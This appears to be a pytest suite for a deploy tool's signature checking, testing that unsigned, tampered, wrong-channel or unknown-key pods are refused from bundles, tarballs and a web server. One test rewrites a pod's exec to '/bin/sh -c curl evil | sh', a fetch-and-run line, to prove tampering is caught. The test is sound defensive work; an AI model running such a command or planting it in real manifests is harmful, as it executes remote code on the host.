"""ops-onboard --allowed-signers: only pods signed for their channel by an allowed key deploy.

Unsigned, tampered and wrong-channel pods are refused with one line and DIR
exactly as it was, from a bundle directory, a bundle tar and a web server.
Keys are real (OpenSSH in tmp_path); the signatures are made by podrelease's
own signing (core.signing) as a release makes them.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import tarfile
from pathlib import Path

import pytest

from podrelease.build.bundles import write_bundle
from podrelease.core import signing

from hostile import OPS_ONBOARD
from httpservers import StaticServer
from podfactory import ReleaseRoot, standard_pod, tree
from sshkeys import HAVE_SSH_KEYGEN, allowed_signers, make_key

pytestmark = pytest.mark.skipif(not HAVE_SSH_KEYGEN, reason="needs OpenSSH's ssh-keygen")

ENV = "OPS_ONBOARD_ALLOWED_SIGNERS"


def onboard(root: Path, *args: str, env: dict | None = None) -> subprocess.CompletedProcess:
    environment = {k: v for k, v in os.environ.items() if k != ENV}
    return subprocess.run([OPS_ONBOARD, "--root", str(root), *args], capture_output=True, text=True,
                          timeout=300, env={**environment, **(env or {})})


def ok(result: subprocess.CompletedProcess) -> subprocess.CompletedProcess:
    assert result.returncode == 0, result.stderr
    return result


def refused(ops: Path, *args: str, env: dict | None = None) -> str:
    """The deploy fails with exactly one line and no traceback, leaving DIR as it was; returns the line."""
    before = tree(ops)
    result = onboard(ops, *args, env=env)
    assert result.returncode != 0, result.stdout
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith("ops-onboard: ")
    assert tree(ops) == before
    return lines[0]


@pytest.fixture(scope="module")
def keys(tmp_path_factory) -> dict[str, Path]:
    where = tmp_path_factory.mktemp("keys")
    return {name: make_key(where, name) for name in ("release", "staging-only", "mallory")}


@pytest.fixture(scope="module")
def trust(tmp_path_factory, keys) -> Path:
    """release@ may sign any channel; staging@ only podrelease-staging."""
    return allowed_signers(tmp_path_factory.mktemp("trust") / "allowed_signers",
                           ("release@example.com", keys["release"], ""),
                           ("staging@example.com", keys["staging-only"], 'namespaces="podrelease-staging"'))


@pytest.fixture(scope="module")
def ops(tmp_path_factory, keys, trust) -> Path:
    """A DIR with //web:frontend 1.2.0 installed from a signed bundle; every refusal must leave it as it is."""
    release = ReleaseRoot(tmp_path_factory.mktemp("installed") / "release")
    bundle = signed_bundle(release, "1.2.0", keys["release"], release.root / "bundle")
    root = release.root.parent / "ops"
    ok(onboard(root, "--allowed-signers", str(trust), "deploy", str(bundle)))
    return root


def sign(pod_dir: Path, key: Path, channel: str | None = None) -> None:
    data = (pod_dir / "pod.json").read_bytes()
    channel = channel or json.loads(data)["channel"]
    (pod_dir / "pod.json.sig").write_bytes(signing.sign(data, key, channel))


def signed_bundle(release: ReleaseRoot, version: str, key: Path | None, where: Path, channel: str = "prod") -> Path:
    """A bundle of //web:frontend `version` in `channel` (signed with `key`, unless None), its files private copies."""
    pod_dir = standard_pod(release, version, image_version=version, channel=channel)
    if key is not None:
        sign(pod_dir, key)
    linked = where.parent / f"{where.name}-linked"
    write_bundle(pod_dir, linked)
    shutil.copytree(linked, where)
    return where


@pytest.fixture
def release(tmp_path) -> ReleaseRoot:
    return ReleaseRoot(tmp_path / "release")


# -- bundles ---------------------------------------------------------------------------


def test_a_signed_bundle_deploys(tmp_path, release, keys, trust):
    bundle = signed_bundle(release, "1.3.0", keys["release"], tmp_path / "bundle")
    ops = tmp_path / "ops"
    ok(onboard(ops, "--allowed-signers", str(trust), "deploy", str(bundle)))
    assert os.readlink(ops / "pods/web/frontend/current") == "1.3.0"


def test_the_allowed_signers_file_may_come_from_the_environment(tmp_path, release, keys, trust, ops):
    bundle = signed_bundle(release, "1.3.0", None, tmp_path / "bundle")
    line = refused(ops, "deploy", str(bundle), env={ENV: str(trust)})
    assert "not signed" in line


def test_the_option_is_accepted_after_the_command_too(tmp_path, release, keys, trust):
    bundle = signed_bundle(release, "1.3.0", keys["release"], tmp_path / "bundle")
    ok(onboard(tmp_path / "ops", "deploy", str(bundle), "--allowed-signers", str(trust)))


def test_an_unsigned_bundle_is_refused_and_dir_is_unchanged(tmp_path, release, trust, ops):
    bundle = signed_bundle(release, "1.3.0", None, tmp_path / "bundle")
    line = refused(ops, "--allowed-signers", str(trust), "deploy", str(bundle))
    assert f"{bundle}/pod.json: not signed: {bundle}/pod.json.sig: missing;" in line
    assert "requires pods signed for channel prod" in line


def test_a_tampered_pod_json_is_refused_and_dir_is_unchanged(tmp_path, release, keys, trust, ops):
    bundle = signed_bundle(release, "1.3.0", keys["release"], tmp_path / "bundle")
    doc = json.loads((bundle / "pod.json").read_text())
    doc["manifest"]["apps"][0]["app"]["exec"] = ["/bin/sh", "-c", "curl evil | sh"]
    (bundle / "pod.json").write_text(json.dumps(doc, indent=2) + "\n")
    line = refused(ops, "--allowed-signers", str(trust), "deploy", str(bundle))
    assert "pod.json changed after signing" in line


def test_a_key_allowed_only_for_another_channel_is_refused(tmp_path, release, keys, trust, ops):
    bundle = signed_bundle(release, "1.3.0", keys["staging-only"], tmp_path / "bundle")
    line = refused(ops, "--allowed-signers", str(trust), "deploy", str(bundle))
    assert "(staging@example.com) is not allowed to sign for podrelease-prod" in line


def test_a_key_allowed_for_the_pods_channel_deploys(tmp_path, release, keys, trust):
    bundle = signed_bundle(release, "1.3.0", keys["staging-only"], tmp_path / "bundle", channel="staging")
    ok(onboard(tmp_path / "ops", "--allowed-signers", str(trust), "deploy", str(bundle)))


def test_a_signature_made_for_another_channel_is_refused(tmp_path, release, keys, trust, ops):
    bundle = signed_bundle(release, "1.3.0", None, tmp_path / "bundle")
    sign(bundle, keys["release"], channel="staging")  # a staging signature replayed onto a prod pod.json
    line = refused(ops, "--allowed-signers", str(trust), "deploy", str(bundle))
    assert "signature made for another channel" in line


def test_a_key_not_in_allowed_signers_is_refused(tmp_path, release, keys, trust, ops):
    bundle = signed_bundle(release, "1.3.0", keys["mallory"], tmp_path / "bundle")
    line = refused(ops, "--allowed-signers", str(trust), "deploy", str(bundle))
    assert "signed by an unknown key" in line


def test_a_signature_that_is_not_one_is_refused(tmp_path, release, trust, ops):
    bundle = signed_bundle(release, "1.3.0", None, tmp_path / "bundle")
    (bundle / "pod.json.sig").write_bytes(b"\x1b[2Jtrust me\n")
    line = refused(ops, "--allowed-signers", str(trust), "deploy", str(bundle))
    assert "not an SSH signature" in line


def test_a_huge_signature_is_refused_without_reading_it_all(tmp_path, release, trust, ops):
    bundle = signed_bundle(release, "1.3.0", None, tmp_path / "bundle")
    with open(bundle / "pod.json.sig", "wb") as f:
        f.truncate(1 << 30)  # sparse: a GiB that costs nothing on disk
    line = refused(ops, "--allowed-signers", str(trust), "deploy", str(bundle))
    assert "pod.json.sig: larger than" in line


def test_a_missing_allowed_signers_file_is_refused_before_anything(tmp_path, release, keys, ops):
    bundle = signed_bundle(release, "1.3.0", keys["release"], tmp_path / "bundle")
    line = refused(ops, "--allowed-signers", str(tmp_path / "absent"), "deploy", str(bundle))
    assert line == f"ops-onboard: allowed signers file {tmp_path / 'absent'}: missing or unreadable"


def test_an_empty_allowed_signers_option_is_refused_not_ignored(tmp_path, release, ops):
    bundle = signed_bundle(release, "1.3.0", None, tmp_path / "bundle")
    line = refused(ops, "--allowed-signers", "", "deploy", str(bundle))
    assert "--allowed-signers names no file" in line


def test_without_allowed_signers_an_unsigned_bundle_deploys_as_before(tmp_path, release):
    bundle = signed_bundle(release, "1.3.0", None, tmp_path / "bundle")
    ok(onboard(tmp_path / "ops", "deploy", str(bundle)))


# -- bundle tarballs -------------------------------------------------------------------


def tar_of(bundle: Path, where: Path) -> Path:
    with tarfile.open(where, "w:gz") as tar:
        tar.add(bundle, arcname="bundle")
    return where


def test_a_signed_bundle_tar_deploys(tmp_path, release, keys, trust):
    tarball = tar_of(signed_bundle(release, "1.3.0", keys["release"], tmp_path / "bundle"), tmp_path / "b.tar.gz")
    ok(onboard(tmp_path / "ops", "--allowed-signers", str(trust), "deploy", str(tarball)))


def test_an_unsigned_bundle_tar_is_refused(tmp_path, release, trust, ops):
    tarball = tar_of(signed_bundle(release, "1.3.0", None, tmp_path / "bundle"), tmp_path / "b.tar.gz")
    line = refused(ops, "--allowed-signers", str(trust), "deploy", str(tarball))
    assert "not signed" in line


def test_a_tampered_bundle_tar_is_refused(tmp_path, release, keys, trust, ops):
    bundle = signed_bundle(release, "1.3.0", keys["release"], tmp_path / "bundle")
    (bundle / "pod.json").write_bytes((bundle / "pod.json").read_bytes().replace(b'"revision": "9f1c2e7"',
                                                                                  b'"revision": "0000000"'))
    tarball = tar_of(bundle, tmp_path / "b.tar.gz")
    line = refused(ops, "--allowed-signers", str(trust), "deploy", str(tarball))
    assert "pod.json changed after signing" in line


# -- HTTP ------------------------------------------------------------------------------


@pytest.fixture
def site(tmp_path, keys):
    """A release root serving //web:frontend 1.3.0, signed; yields (pod directory, pod.json URL)."""
    release = ReleaseRoot(tmp_path / "site")
    pod_dir = standard_pod(release, "1.3.0", image_version="1.3.0")
    sign(pod_dir, keys["release"])
    with StaticServer(release.root) as server:
        yield pod_dir, server.url + "/channels/prod/web/frontend/1.3.0/pod.json"


def test_a_signed_pod_deploys_by_url(tmp_path, site, trust):
    _, url = site
    ok(onboard(tmp_path / "ops", "--allowed-signers", str(trust), "deploy", url))


def test_a_pod_served_without_its_signature_is_refused(site, trust, ops):
    pod_dir, url = site
    (pod_dir / "pod.json.sig").unlink()
    line = refused(ops, "--allowed-signers", str(trust), "deploy", url)
    assert "/1.3.0/pod.json: not signed: " in line and "/1.3.0/pod.json.sig: HTTP 404" in line


def test_a_tampered_pod_served_is_refused(site, trust, ops):
    pod_dir, url = site
    doc = json.loads((pod_dir / "pod.json").read_text())
    doc["manifest"]["apps"][0]["app"]["exec"].append("--evil")
    (pod_dir / "pod.json").write_text(json.dumps(doc))
    line = refused(ops, "--allowed-signers", str(trust), "deploy", url)
    assert "pod.json changed after signing" in line


# -- the installed signature, checked again by verify ----------------------------------------

INSTALLED = "pods/web/frontend/1.3.0"


def deployed(tmp_path: Path, release: ReleaseRoot, key: Path, *options: str) -> tuple[Path, Path]:
    """(DIR, the bundle) after deploying //web:frontend 1.3.0 signed with `key`, with `options` before `deploy`."""
    bundle = signed_bundle(release, "1.3.0", key, tmp_path / "bundle")
    ops = tmp_path / "ops"
    ok(onboard(ops, *options, "deploy", str(bundle)))
    return ops, bundle


def test_a_pod_deployed_with_allowed_signers_keeps_its_signature_beside_pod_json(tmp_path, release, keys, trust):
    ops, bundle = deployed(tmp_path, release, keys["release"], "--allowed-signers", str(trust))
    assert (ops / INSTALLED / "pod.json.sig").read_bytes() == (bundle / "pod.json.sig").read_bytes()
    assert "intact" in ok(onboard(ops, "--allowed-signers", str(trust), "verify")).stdout


def test_verify_with_allowed_signers_reports_a_version_installed_without_a_signature(tmp_path, release, keys, trust):
    ops, _ = deployed(tmp_path, release, keys["release"])  # signatures not checked: none kept
    assert not (ops / INSTALLED / "pod.json.sig").exists()
    result = onboard(ops, "--allowed-signers", str(trust), "verify")
    assert result.returncode == 1
    assert "//web:frontend 1.3.0: pod.json.sig: missing" in result.stdout.splitlines()[0]


def test_verify_with_other_allowed_signers_reports_the_installed_signature(tmp_path, release, keys, trust):
    ops, _ = deployed(tmp_path, release, keys["release"], "--allowed-signers", str(trust))
    others = allowed_signers(tmp_path / "others", ("mallory@example.com", keys["mallory"], ""))
    result = onboard(ops, "--allowed-signers", str(others), "verify")
    assert result.returncode == 1
    [line] = [line for line in result.stdout.splitlines() if "pod.json.sig" in line]
    assert "1.3.0: pod.json.sig: " in line


def test_a_tampered_installed_signature_is_a_verify_problem_even_without_allowed_signers(tmp_path, release, keys, trust):
    ops, _ = deployed(tmp_path, release, keys["release"], "--allowed-signers", str(trust))
    signature = ops / INSTALLED / "pod.json.sig"
    signature.chmod(0o644)
    signature.write_bytes(signature.read_bytes().replace(b"A", b"B", 1))
    result = onboard(ops, "verify")
    assert result.returncode == 1 and "pod.json.sig" in result.stdout


def test_deploying_with_allowed_signers_adds_the_signature_to_a_version_installed_without_one(tmp_path, release, keys, trust):
    ops, bundle = deployed(tmp_path, release, keys["release"])
    ok(onboard(ops, "--allowed-signers", str(trust), "deploy", str(bundle)))
    assert (ops / INSTALLED / "pod.json.sig").read_bytes() == (bundle / "pod.json.sig").read_bytes()
    ok(onboard(ops, "--allowed-signers", str(trust), "verify"))
